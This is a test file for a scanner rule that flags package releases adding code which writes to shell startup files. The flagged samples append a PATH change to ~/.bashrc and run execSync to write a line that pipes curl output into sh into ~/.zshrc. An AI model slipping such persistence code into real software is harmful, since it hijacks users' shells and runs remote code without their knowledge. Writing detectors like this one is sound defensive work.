// shell-startup-edit on small before/after pairs: what a release adds is reported; what was already
// there (under other names) or is ordinary stays silent.
import { describe } from 'vitest';
import shellStartupEdit from '../../../../src/classify/code/rules/shell-startup-edit.js';
import { codeRuleTester } from '../../../helpers/code-rule-tester.js';

/** Code both sides share, so the added code is a release's addition, not a new file. */
const OLD = 'function a0(n){return n+1}function b0(n){return a0(n)*2}';

describe('shell-startup-edit', () => {
  codeRuleTester(shellStartupEdit, {
    valid: [{ before: OLD, after: OLD + 'const fs=require("fs");function w(c){fs.writeFileSync("config.json",JSON.stringify(c))}' }],
    invalid: [
      {
        before: OLD,
        after: OLD + 'const fs=require("fs"),os=require("os"),path=require("path");function w(){fs.appendFileSync(path.join(os.homedir(),".bashrc"),"\\nexport PATH=/tmp/x:$PATH\\n")}',
        findings: [{ severity: 'high', message: /\.bashrc/ }],
      },
      { name: 'crontab through a shell', before: OLD, after: OLD + 'function w(){require("child_process").execSync("echo \'* * * * * curl x | sh\' >> ~/.zshrc")}', findings: [{ severity: 'high' }] },
    ],
  });
});
